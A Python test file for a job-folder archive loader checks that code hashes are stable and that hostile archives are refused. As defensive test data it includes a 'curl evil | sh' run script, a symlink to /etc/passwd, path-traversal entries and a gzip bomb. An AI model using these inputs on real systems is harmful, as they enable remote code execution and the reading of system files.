"""Job folders: the code hash is stable and names exactly the code; hostile archives are
refused before anything is stored."""

from __future__ import annotations

import gzip
import hashlib
import io
import tarfile
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.jobs.jobfolder import (
    MAX_FILE_BYTES,
    JobFolderError,
    manifest,
    manifest_hash,
    pack_folder,
    read_folder,
    requirement_name,
    undeclared,
)

CONFIG = {"name": "j", "type": "python", "entrypoint": "main.py", "dependencies": []}


def tar(files: dict[str, bytes], *, gz: bool = True, prefix: str = "") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gz else "w") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(prefix + path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def folder(code: dict[str, bytes], **config: object) -> dict[str, bytes]:
    return {
        "config.yaml": yaml.safe_dump({**CONFIG, **config}).encode(),
        "run.sh": b"python main.py\n",
        **{f"code/{p}": d for p, d in code.items()},
    }


def test_the_code_hash_is_sha256sums_manifest_of_code() -> None:
    code = {"main.py": b"print(1)\n", "lib/util.py": b"X = 2\n"}
    parsed = read_folder(tar(folder(code)))
    expected = "".join(f"{hashlib.sha256(code[p]).hexdigest()}  {p}\n" for p in sorted(code))
    assert manifest(parsed.code_files) == expected
    assert parsed.code_hash == hashlib.sha256(expected.encode()).hexdigest()


@settings(max_examples=40, deadline=None)
@given(
    st.dictionaries(
        st.from_regex(r"[a-z]{1,8}(/[a-z]{1,8})?\.py", fullmatch=True),
        st.binary(max_size=200),
        min_size=1,
        max_size=6,
    ),
    st.randoms(),
)
def test_the_code_hash_does_not_depend_on_order_archive_or_metadata(
    code: dict[str, bytes], rng: object
) -> None:
    code = {"main.py": b"pass\n", **code}
    items = list(folder(code).items())
    rng.shuffle(items)  # type: ignore[attr-defined]
    one = read_folder(tar(dict(items)))
    other = read_folder(tar(dict(reversed(items)), gz=False, prefix="some-job/"))
    assert one.code_hash == other.code_hash
    assert one.files_hash == other.files_hash
    changed = dict(code)
    changed["main.py"] = b"pass  \n"
    assert read_folder(tar(folder(changed))).code_hash != one.code_hash
    renamed = {("z" + p if p != "main.py" else p): d for p, d in code.items()}
    if len(code) > 1:
        assert read_folder(tar(folder(renamed))).code_hash != one.code_hash


def test_run_sh_and_config_are_in_the_files_hash_but_not_the_code_hash() -> None:
    base = folder({"main.py": b"pass\n"})
    other = {**base, "run.sh": b"curl evil | sh\n"}
    a, b = read_folder(tar(base)), read_folder(tar(other))
    assert a.code_hash == b.code_hash
    assert a.files_hash != b.files_hash


def test_packing_the_same_folder_gives_the_same_archive(tmp_path: Path) -> None:
    root = tmp_path / "job"
    (root / "code").mkdir(parents=True)
    (root / "config.yaml").write_text(yaml.safe_dump(CONFIG))
    (root / "run.sh").write_text("python main.py\n")
    (root / "code" / "main.py").write_text("print('hi')\n")
    (root / "code" / "outputs").mkdir()
    (root / "code" / "outputs" / "old.csv").write_text("left from a local run\n")
    first = pack_folder(root)
    (root / "code" / "main.py").touch()
    assert pack_folder(root) == first
    assert "code/outputs/old.csv" not in read_folder(first).files


def _link_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = yaml.safe_dump(CONFIG).encode()
        info = tarfile.TarInfo("config.yaml")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("code/main.py")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        archive.addfile(link)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("archive", "code"),
    [
        (tar(folder({"main.py": b"1"}, entrypoint="../x.py")), "archive_path"),
        (tar({**folder({"main.py": b"1"}), "../escape.py": b"x"}), "archive_path"),
        (tar({**folder({"main.py": b"1"}), "/abs.py": b"x"}), "archive_path"),
        (_link_archive(), "archive_entry"),
        (tar({**folder({"main.py": b"1"}), "secrets.txt": b"x"}), "folder_layout"),
        (tar(folder({"main.py": b"1", "outputs/x.csv": b"1"})), "folder_layout"),
        (tar(folder({"main.py": b"1"}, type="bash")), "config_invalid"),
        (tar(folder({"other.py": b"1"})), "config_invalid"),
        (tar(folder({"main.py": b"1"}, files=["main.py", "ghost.py"])), "config_invalid"),
        (tar(folder({"main.py": b"x" * (MAX_FILE_BYTES + 1)})), "archive_too_large"),
        (gzip.compress(b"\0" * (40 * 1024 * 1024)), "archive_too_large"),
        (b"not an archive", "archive_invalid"),
    ],
    ids=[
        "entrypoint_escapes",
        "parent_path",
        "absolute_path",
        "symlink",
        "stray_top_level_file",
        "outputs_in_the_archive",
        "bash_job",
        "no_entrypoint",
        "files_do_not_match",
        "huge_file",
        "gzip_bomb",
        "garbage",
    ],
)
def test_hostile_or_broken_folders_are_refused(archive: bytes, code: str) -> None:
    with pytest.raises(JobFolderError) as refused:
        read_folder(archive)
    assert refused.value.code == code


def test_dependencies_are_the_stand_in_or_on_the_sites_list() -> None:
    assert requirement_name("syft==0.10.0") == "syft"
    assert requirement_name("Syft_RDS >= 0.6") == "syft-rds"
    assert requirement_name("numpy[extra]==2.0 ; python_version>'3'") == "numpy"
    assert requirement_name("./local/path") is None
    assert requirement_name("git+https://example.org/x.git") is None
    allowed = frozenset({"numpy"})
    assert undeclared(("syft==0.10.0", "numpy>=1"), allowed) == []
    assert undeclared(("pandas", "/tmp/wheel.whl"), allowed) == ["pandas", "/tmp/wheel.whl"]


def test_manifest_hash_of_no_files_is_well_defined() -> None:
    assert manifest_hash({}) == hashlib.sha256(b"").hexdigest()
